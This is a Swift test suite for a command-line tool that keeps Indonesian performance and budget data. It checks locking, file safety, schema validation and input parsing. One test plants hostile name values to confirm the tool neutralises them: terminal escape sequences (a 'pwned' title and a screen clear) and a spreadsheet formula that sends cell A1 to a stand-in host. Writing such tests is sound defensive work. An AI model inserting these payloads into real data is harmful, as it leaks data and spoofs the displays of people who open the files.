import Foundation
import Model
import GudangBerkas
import Testing
import UjiBersama
#if canImport(Glibc)
import Glibc
#endif

/// The file store's promises, through the real binary as scripts and people use it.
@Suite(.serialized) struct BerkasAmanCLITests {
    let folder: URL
    let data: String

    init() throws { (folder, data) = try Proses.salinSampel("kinerja-aman") }

    func bytes(_ p: String) throws -> Data { try Data(contentsOf: URL(fileURLWithPath: p)) }

    /// Runs a shell command line with the binary as $K.
    func sh(_ line: String, env: [String: String] = [:]) throws -> Proses {
        try Proses.jalankan(["-c", line], env: ["LANG": "C", "K": Proses.biner.path, "PATH": "/usr/bin:/bin"].merging(env) { $1 }, program: "/bin/sh")
    }

    // 1. Two `set` loops at once, on different cells: every edit each reported is there.
    @Test func twoConcurrentSetLoopsLoseNothing() throws {
        let n = ProcessInfo.processInfo.environment["KINERJA_UJI_PANJANG"] == nil ? 100 : 300
        let loops = try SetBersamaan(data, n: n)
        #expect(loops.cukup)
        try loops.tulisSkrip(data, ke: folder)
        let r = try sh("cd \(folder.path) && { sh a.sh > a.out 2>&1 & sh b.sh > b.out 2>&1; wait; }")
        #expect(r.keluar == 0)
        #expect(try String(contentsOfFile: folder.path + "/a.out", encoding: .utf8).contains("GAGAL") == false)
        #expect(try String(contentsOfFile: folder.path + "/b.out", encoding: .utf8).contains("GAGAL") == false)
        let lost = loops.hilang(try Penyimpan.muat(data))
        #expect(lost == 0, "\(lost) of \(2 * n) edits lost")
    }

    // 1. A writer that cannot get the lock waits, says so, then gives up changing nothing.
    /// The lock is exclusive and waits with a timeout, saying after a second that it waits.
    @Test(.tags(.lambat), .lajur(.lambat)) func aSecondWriterWaitsForTheLockThenGivesUp() throws {
        let held = try #require(try Kunci.ambil(data))
        var told = false
        let start = Date()
        #expect(throws: GalatBerkas.self) { _ = try Kunci.ambil(data, batas: 1.2) { told = true } }
        #expect(Date().timeIntervalSince(start) >= 1.2)
        #expect(told)
        held.lepas()
        #expect(try Kunci.ambil(data, batas: 0.1) != nil)
    }

    @Test(.tags(.lambat), .lajur(.lambat)) func setWaitsForTheLockThenGivesUp() throws {
        let before = try bytes(data)
        let held = folder.appendingPathComponent("dipegang").path
        let r = try sh("flock \(data) sh -c 'touch \(held); sleep 4' & while [ ! -e \(held) ]; do sleep 0.05; done; $K set \(data) 2.1.4 --target 80; echo $? > \(held).rc; wait; exit $(cat \(held).rc)",
                       env: ["KINERJA_TUNGGU_KUNCI": "2"])
        #expect(r.keluar == 1)
        #expect(r.stderr.contains("sedang diubah oleh proses lain; menunggu (paling lama 2 detik)"))
        #expect(r.stderr.contains("lebih dari 2 detik; tidak ada yang diubah"))
        #expect(try bytes(data) == before)
    }

    // 2. report/export never write over the data file, its backup or a recovery copy.
    @Test func reportAndExportRefuseTheDataFile() throws {
        #expect(try Proses.perintah(["set", data, "2.1.4", "--target", "80"]).keluar == 0)
        symlink(data, folder.path + "/lain.json")
        link(data, folder.path + "/keras.json")
        let before = try bytes(data), backup = try bytes(data + ".bak")
        for out in [data, data + ".bak", folder.path + "/lain.json", folder.path + "/keras.json", data + ".pulih.1-2"] {
            let r = try Proses.perintah(["report", data, "anggaran", "--format", "csv", "-o", out])
            #expect(r.keluar == 1, "\(out)")
            #expect(r.stderr.contains("ini berkas data \(data) sendiri"))
            #expect(try Proses.perintah(["export", data, "-o", out]).keluar == 1)
        }
        #expect(try bytes(data) == before)
        #expect(try bytes(data + ".bak") == backup)
    }

    // 3. check refuses unknown keys; the published schema accepts the sample and generated files and refuses the slip.
    @Test func unknownKeysFailCheckAndTheSchema() throws {
        let text = try String(contentsOfFile: data, encoding: .utf8)
        let slip = folder.appendingPathComponent("salah.json").path
        let first = try #require(text.range(of: "\"realisasi\": 8"))
        try text.replacingCharacters(in: first, with: "\"realisai\": 8").write(toFile: slip, atomically: false, encoding: .utf8)
        let r = try Proses.perintah(["check", slip])
        #expect(r.keluar == 1)
        #expect(r.stderr == "kinerja: \(slip): program[0].kegiatan[1].tertulis.realisai (baris 372, kolom 13): kolom 'realisai' tidak dikenal; maksud Anda 'realisasi'? kolom yang dikenal di sini: pagu, realisasi, usang. Perbaiki atau hapus kolom itu: kinerja tidak menyimpan yang tidak dikenalnya\n")
        let generated = folder.appendingPathComponent("gen.json").path
        #expect(try Proses.perintah(["gen", "--sub-kegiatan", "200", "-o", generated]).keluar == 0)
        let tool = Proses.root.appendingPathComponent("tools/check_schema.py").path
        let env = ProcessInfo.processInfo.environment
        let ok = try Proses.jalankan(["python3", tool, data, generated], env: env, program: "/usr/bin/env")
        #expect(ok.keluar == 0, "\(ok.stdout)\(ok.stderr)")
        let bad = try Proses.jalankan(["python3", tool, slip], env: env, program: "/usr/bin/env")
        #expect(bad.keluar == 1)
        #expect(bad.stdout.contains("program[0].kegiatan[1].tertulis: Additional properties are not allowed ('realisai' was unexpected)"))
    }

    // 7. set does not write a write-protected file.
    @Test func setRefusesAWriteProtectedFile() throws {
        chmod(data, 0o444)
        let before = try bytes(data)
        let r = try Proses.perintah(["set", data, "2.1.4", "--target", "80"])
        #expect(r.keluar == 1)
        #expect(r.stderr.contains("berkas dilindungi dari penulisan; tidak diubah"))
        #expect(try bytes(data) == before)
    }

    // 8. A file-size limit makes the save fail with a message, not kill it.
    @Test func aFileSizeLimitFailsTheSaveWithAMessage() throws {
        let before = try bytes(data)
        let r = try sh("ulimit -f 40; $K set \(data) 2.1.4 --target 80")
        #expect(r.keluar == 1)
        #expect(r.stderr.contains("melewati batas ukuran berkas (ulimit -f)"))
        #expect(try bytes(data) == before)
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path).filter { $0.contains(".tmp-") }.isEmpty)
    }

    // 11. Under umask 077 a report written beside a 0644 data file is 0600.
    @Test func outputsRespectTheUmask() throws {
        let out = folder.appendingPathComponent("out.csv").path
        #expect(try sh("umask 077; $K report \(data) anggaran --format csv -o \(out)").keluar == 0)
        var info = stat()
        stat(out, &info)
        #expect(info.st_mode & 0o777 == 0o600)
        chmod(data, 0o640)
        let md = folder.appendingPathComponent("out.md").path
        #expect(try Proses.perintah(["report", data, "anggaran", "--format", "md", "-o", md]).keluar == 0)
        stat(md, &info)
        #expect(info.st_mode & 0o777 == 0o640)
    }

    // 12, 13. Hostile names: nothing raw reaches a terminal; CSV cells are not formulas.
    @Test func hostileNamesReachNoTerminalRawAndNoSpreadsheetAsFormulas() throws {
        var text = try String(contentsOfFile: data, encoding: .utf8)
        text = text.replacingOccurrences(of: "\"nama\": \"Penyediaan Tempat Penampungan Pengungsi\"",
                                         with: "\"nama\": \"Penyediaan\\u001b]0;pwned\\u0007\\u001b[2J\\u009b6n\\u202ekiri\"")
        text = text.replacingOccurrences(of: "\"nama\": \"Penanganan Bencana\"", with: "\"nama\": \"=HYPERLINK(\\\"http://x/?\\\"&A1,\\\"klik\\\")\"")
        try text.write(toFile: data, atomically: false, encoding: .utf8)
        let runs = [["show", data, "1.06.06.2.01.03"], ["report", data, "anggaran"], ["report", data, "anggaran", "--format", "md"],
                    ["report", data, "triwulan"], ["check", data]]
        for args in runs {
            let r = try Proses.jalankan(args)
            #expect(r.keluar == 0, "\(args)")
            for out in [r.stdout, r.stderr] {
                #expect(!out.unicodeScalars.contains { TeksAman.berbahaya($0) && $0 != "\n" && $0 != "\t" }, "\(args)")
            }
        }
        #expect(try Proses.perintah(["show", data, "1.06.06.2.01.03"]).stdout.contains("Penyediaan?]0;pwned??[2J?6n?kiri"))
        // An error message quoting a name (a duplicate code) is neutralised too.
        let dup = text.replacingOccurrences(of: "\"kode\": \"1.06.06.2.01.02\"", with: "\"kode\": \"1.06.06.2.01.03\"")
        try dup.write(toFile: data, atomically: false, encoding: .utf8)
        let e = try Proses.perintah(["check", data])
        #expect(e.keluar == 1)
        #expect(!e.stderr.unicodeScalars.contains { TeksAman.berbahaya($0) && $0 != "\n" })
        try text.write(toFile: data, atomically: false, encoding: .utf8)
        for excel in [false, true] {
            let csv = try Proses.perintah(["report", data, "anggaran", "--format", "csv"] + (excel ? ["--excel-id"] : [])).stdout
            #expect(csv.contains("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"klik\"\")\""))
            #expect(!csv.contains("\"=HYPERLINK"))
        }
    }

    // 15. Negative values after the option, and the ambiguous 1.5000.
    @Test func negativeValuesAndAmbiguousPoints() throws {
        let r = try Proses.perintah(["set", data, "2.1.4", "--target", "-5"])
        #expect(r.keluar == 0)
        #expect(r.stdout.hasPrefix("2.1.4 indikator 4 target tahunan: 78 -> -5\n"))
        let before = try bytes(data)
        let a = try Proses.perintah(["set", data, "2.1.4", "--target", "1.5000"])
        #expect(a.keluar == 1)
        #expect(a.stderr == "kinerja: nilai '1.5000': meragukan: desimal pakai koma (1,5), ribuan berkelompok tiga (15.000); berkas tidak diubah\n")
        #expect(try bytes(data) == before)
        let fifo = folder.appendingPathComponent("pipa.json").path
        mkfifo(fifo, 0o600)
        let f = try Proses.perintah(["check", fifo])
        #expect(f.keluar == 1)
        #expect(f.stderr.contains("bukan berkas biasa (folder, FIFO atau perangkat)"))
    }

    // 16. show: a blank budget realisation is blank, null in json.
    @Test func showKeepsABlankBudgetBlank() throws {
        let text = try Proses.perintah(["show", data, "1.06.04.2.02.05"]).stdout
        #expect(text.contains("  Realisasi s.d. TW IV                     -\n"))
        let json = try Proses.perintah(["show", data, "1.06.04.2.02.05", "--format", "json"]).stdout
        let object = try JSONSerialization.jsonObject(with: Data(json.utf8)) as! [String: Any]
        let budget = object["anggaran"] as! [String: Any]
        #expect(budget["realisasi"] is NSNull)
        #expect((budget["triwulan"] as! [[String: Any]]).allSatisfy { $0["realisasi"] is NSNull })
    }
}
